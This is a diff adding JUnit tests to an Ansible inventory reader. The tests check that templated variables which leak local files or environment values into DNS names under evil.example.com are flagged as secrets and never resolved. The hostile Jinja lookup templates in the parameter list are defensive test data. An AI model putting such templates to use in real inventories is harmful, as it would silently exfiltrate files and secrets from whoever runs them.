@@ -2,10 +2,13 @@ package io.urania.cluster.reader;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.urania.artifacts.version.VersionTable;
 import io.urania.inventory.problem.Problem;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -100,6 +103,61 @@ class RulesTest {
             assertThat(problem.what()).isEqualTo("ansible_host is '" + address + "'");
             assertThat(problem.position()).isNotNull();
         });
+    }
+
+    /** What somebody else wrote must not carry a file or a variable of this machine away, to name servers least of all. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ansible_host: \"{{ lookup('file', inventory_dir ~ '/hosts.yaml') | length }}.evil.example.com\"",
+                "ansible_host: \"{{ lookup('env', 'PATH') | hash('sha1') }}.evil.example.com\"",
+                "ansible_host: \"{{ 'a' if lookup('env', 'PATH') else 'b' }}.evil.example.com\"",
+                "ansible_host: \"{{ lookup('password', inventory_dir ~ '/key chars=ascii_letters') }}.evil.example.com\"",
+                "ansible_ssh_host: \"{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
+                "ip: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"",
+                "access_ip: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"",
+                "loadbalancer_apiserver: {address: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"}",
+                "apiserver_loadbalancer_domain_name: \"a{{ lookup('env', 'PATH') | length }}.example.com\"",
+                "ansible_ssh_common_args: \"-J a{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
+                "ansible_ssh_extra_args: \"-o HostName=a{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
+            })
+    void whatOthersAreToldIsNoSecret(String variable) {
+        String hosts = RackFiles.HOSTS.replaceAll("ansible_host: [0-9.]+,?", "");
+        String name = variable.substring(0, variable.indexOf(':'));
+        boolean isAddress = name.equals("ansible_host") || name.equals("ansible_ssh_host") || name.equals("ip");
+        List<String> asked = new ArrayList<>();
+
+        files().write("hosts.yaml", isAddress ? hosts : RackFiles.HOSTS);
+        files().write("group_vars/all.yaml", RackFiles.replacing(RackFiles.VARIABLES, variable));
+        ClusterReading reading = new ClusterSpecReader(VersionTable.standard(), host -> {
+                    asked.add(host);
+                    return Optional.empty();
+                })
+                .read(files().inventory());
+
+        assertThat(asked).isEmpty();
+        assertThat(reading.errors()).singleElement().satisfies(problem -> {
+            assertThat(problem.what()).contains(name.split("\\.", 2)[0]).contains("is a secret");
+            assertThat(String.valueOf(problem.position())).startsWith(directory.resolve("group_vars/all.yaml") + ":");
+        });
+    }
+
+    @Test
+    void aKeyInTheHomeDirectoryIsNamedAsEver() {
+        assertThat(files().withVariables("""
+                        ansible_user: "{{ lookup('env', 'USER') or 'root' }}"
+                        ansible_ssh_private_key_file: "{{ lookup('env', 'HOME') }}/.ssh/id_ed25519"
+                        ansible_ssh_common_args: "-i {{ lookup('env', 'HOME') }}/.ssh/id_ed25519"
+                        """).errors()).isEmpty();
+    }
+
+    @Test
+    void anAddressThatIsRefusedIsNotMissedToo() {
+        ClusterReading reading = files().withHosts("{ansible_host: 10.42.253.46}", "{ansible_host: 'a b'}");
+
+        assertThat(reading.errors())
+                .singleElement()
+                .satisfies(problem -> assertThat(problem.what()).isEqualTo("ansible_host is 'a b'"));
     }
 
     @ParameterizedTest
